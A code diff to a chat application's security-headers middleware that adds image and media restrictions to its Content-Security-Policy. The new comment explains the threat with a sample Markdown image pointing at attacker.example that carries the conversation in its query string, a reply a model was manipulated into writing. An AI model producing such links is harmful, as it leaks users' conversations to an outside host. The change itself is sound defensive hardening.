@@ -9,6 +9,10 @@
   hold the shared conversation.
 - `X-Frame-Options: SAMEORIGIN` and CSP `frame-ancestors 'self'`: other sites cannot
   frame the page (clickjacking: making a user press Send or Vote unknowingly).
+- CSP `img-src`/`media-src` 'self' data: blob:: the chat renders Markdown and sanitized
+  HTML from users and models, images included. A reply a model was talked into writing
+  (`![](https://attacker.example/?q=<the conversation>)`), or a shared link holding one,
+  would make every viewer's browser send that URL out. Only this origin's images load.
 
 A plain ASGI middleware (not Starlette's BaseHTTPMiddleware, which buffers response
 bodies): it only rewrites the start of each response, so streams stay streams. A header
@@ -32,7 +36,10 @@ SECURITY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
     (b"x-content-type-options", b"nosniff"),
     (b"referrer-policy", b"strict-origin-when-cross-origin"),
     (b"x-frame-options", b"SAMEORIGIN"),
-    (b"content-security-policy", b"frame-ancestors 'self'"),
+    (
+        b"content-security-policy",
+        b"frame-ancestors 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:",
+    ),
 )
 
 
